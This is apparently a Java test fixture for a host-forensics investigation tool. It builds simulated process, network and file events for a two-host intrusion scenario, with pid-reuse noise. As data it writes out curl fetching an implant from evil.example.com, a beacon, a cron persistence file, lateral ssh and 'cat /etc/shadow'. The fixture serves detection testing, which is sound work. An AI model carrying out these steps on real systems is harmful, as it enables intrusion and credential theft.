package dev.kiroku.investigate;

import dev.kiroku.investigate.history.EventHistory;
import dev.kiroku.investigate.index.ProcessRecordTable;
import dev.kiroku.investigate.inventory.FileInventory;
import dev.kiroku.investigate.inventory.InventoryRecord;
import dev.kiroku.investigate.tracking.TrackingLimits;
import dev.kiroku.investigate.workflow.Investigator;
import dev.kiroku.store.lucene.LuceneEventStore;
import dev.kiroku.store.lucene.LuceneStoreOptions;
import org.h2.jdbcx.JdbcDataSource;

import java.nio.file.Path;
import java.time.Instant;
import java.time.InstantSource;
import java.util.List;
import java.util.UUID;

/**
 * A two-host intrusion in a real Lucene store: on web-1 an ssh shell downloads an implant with curl, runs it; it
 * beacons to 203.0.113.5, writes a cron file and starts a shell that connects to db-1's sshd, where a session starts.
 * app-2 has the implant on disk (inventory scan) but never ran it. Plus noise: a shell with many children and pid reuse.
 */
final class Intrusion implements AutoCloseable {
    static final String IMPLANT_SHA = "9f".repeat(32);
    static final Instant T0 = Instant.now().minusSeconds(3600);

    final LuceneEventStore store;
    final FileInventory inventory;
    final Investigator investigator;
    final JdbcDataSource database;
    final Fleet fleet = new Fleet();
    final Fleet.Proc webShell;
    final Fleet.Proc curl;
    final Fleet.Proc implant;
    final Fleet.Proc lateralShell;
    final Fleet.Proc dbSshd;
    final Fleet.Proc dbSession;
    final Fleet.Proc dbShell;
    final Fleet.Proc dbService;
    final Fleet.Proc firstLs;
    final Fleet.Proc reusedPidLs;

    /** With the process record index, as the server runs. */
    Intrusion(Path dir) {
        this(dir, true);
    }

    /** @param indexed with the process record index beside the store (fed the recorded batch), or the store alone */
    Intrusion(Path dir, boolean indexed) {
        Instant t = T0;
        // web-1 (agent-a, 10.0.0.1)
        Fleet.Proc aInit = fleet.snapshot("agent-a", "web-1", 1, null, t.minusSeconds(86400), "/usr/lib/systemd/systemd", "/sbin/init");
        Fleet.Proc aSshd = fleet.snapshot("agent-a", "web-1", 700, aInit, t.minusSeconds(80000), "/usr/sbin/sshd", "sshd: root@pts/0");
        webShell = fleet.exec("agent-a", "web-1", 800, aSshd, t, "/usr/bin/bash", "11".repeat(32), "-bash");
        curl = fleet.exec("agent-a", "web-1", 801, webShell, t.plusSeconds(10), "/usr/bin/curl", "22".repeat(32),
                "curl", "-o", "/tmp/.x/implant", "http://evil.example.com/implant");
        fleet.connect(curl, t.plusSeconds(10).plusMillis(50), "198.51.100.7", 80);
        fleet.write(curl, t.plusSeconds(11), "/tmp/.x/implant");
        fleet.exec("agent-a", "web-1", 802, webShell, t.plusSeconds(12), "/usr/bin/chmod", "33".repeat(32), "chmod", "+x", "/tmp/.x/implant");
        implant = fleet.exec("agent-a", "web-1", 803, webShell, t.plusSeconds(13), "/tmp/.x/implant", IMPLANT_SHA, "/tmp/.x/implant");
        fleet.connect(implant, t.plusSeconds(14), "203.0.113.5", 443);
        fleet.write(implant, t.plusSeconds(15), "/etc/cron.d/implant");
        lateralShell = fleet.exec("agent-a", "web-1", 804, implant, t.plusSeconds(20), "/usr/bin/dash", "44".repeat(32), "sh", "-c", "ssh db-1");
        fleet.connect(lateralShell, t.plusSeconds(21), "10.0.0.2", 22);
        // Noise: the shell runs 30 short commands; the first ls's pid is reused by a later ls.
        firstLs = fleet.exec("agent-a", "web-1", 900, webShell, t.plusSeconds(100), "/usr/bin/ls", "55".repeat(32), "ls");
        Fleet.Proc last = firstLs;
        for (int i = 1; i < 30; i++) last = fleet.exec("agent-a", "web-1", 900 + i, webShell, t.plusSeconds(100 + i), "/usr/bin/ls", "55".repeat(32), "ls", "-l");
        reusedPidLs = fleet.exec("agent-a", "web-1", 900, webShell, t.plusSeconds(200), "/usr/bin/ls", "55".repeat(32), "ls", "-a");

        // db-1 (agent-b, 10.0.0.2): sshd accepts from web-1, a session and its shell follow.
        Fleet.Proc bInit = fleet.snapshot("agent-b", "db-1", 1, null, t.minusSeconds(86400), "/usr/lib/systemd/systemd", "/sbin/init");
        dbSshd = fleet.snapshot("agent-b", "db-1", 650, bInit, t.minusSeconds(86000), "/usr/sbin/sshd", "sshd", "-D");
        fleet.listening(dbSshd, t.minusSeconds(60), "0.0.0.0", 22);
        fleet.accept(dbSshd, t.plusSeconds(21).plusMillis(300), "10.0.0.1", 51234);
        dbSession = fleet.exec("agent-b", "db-1", 1200, dbSshd, t.plusSeconds(22), "/usr/lib/openssh/sshd-session", "66".repeat(32),
                "sshd-session: root@pts/1");
        dbShell = fleet.exec("agent-b", "db-1", 1201, dbSession, t.plusSeconds(23), "/usr/bin/bash", "11".repeat(32), "-bash");
        fleet.exec("agent-b", "db-1", 1202, dbShell, t.plusSeconds(30), "/usr/bin/cat", "77".repeat(32), "cat", "/etc/shadow");
        dbService = fleet.exec("agent-b", "db-1", 400, bInit, t.plusSeconds(40), "/usr/sbin/postgres", "88".repeat(32), "postgres", "-D", "/var/lib/pg");
        fleet.connect(dbService, t.plusSeconds(41), "10.0.0.9", 5432);

        // app-2 (agent-c): a copy of the implant was written and sits there.
        Fleet.Proc cInit = fleet.snapshot("agent-c", "app-2", 1, null, t.minusSeconds(86400), "/usr/lib/systemd/systemd", "/sbin/init");
        Fleet.Proc cCp = fleet.exec("agent-c", "app-2", 300, cInit, t.plusSeconds(50), "/usr/bin/cp", "99".repeat(32), "cp", "/mnt/x", "/opt/tools/implant");
        fleet.write(cCp, t.plusSeconds(50), "/opt/tools/implant");

        store = new LuceneEventStore(dir.resolve("store"), InstantSource.system(), LuceneStoreOptions.defaults());
        store.append(fleet.events);
        store.commit();
        database = new JdbcDataSource();
        database.setURL("jdbc:h2:mem:intrusion-" + UUID.randomUUID() + ";DB_CLOSE_DELAY=-1");
        inventory = new FileInventory(database, InstantSource.system());
        inventory.ingest(fleet.events);
        inventory.record(List.of(new InventoryRecord("agent-c", "app-2", "/opt/tools/implant", IMPLANT_SHA, 48_213, t.plusSeconds(600), false, "scan"),
                new InventoryRecord("agent-a", "web-1", "/tmp/.x/implant", IMPLANT_SHA, 48_213, t.plusSeconds(600), false, "scan")));
        ProcessRecordTable processes = null;
        if (indexed) {
            processes = new ProcessRecordTable(database, InstantSource.system());
            processes.ingest(fleet.events);
            processes.markComplete();
        }
        investigator = new Investigator(new EventHistory(store, InstantSource.system(), processes), inventory, TrackingLimits.defaults(), 10);
    }

    @Override
    public void close() {
        store.close();
    }
}
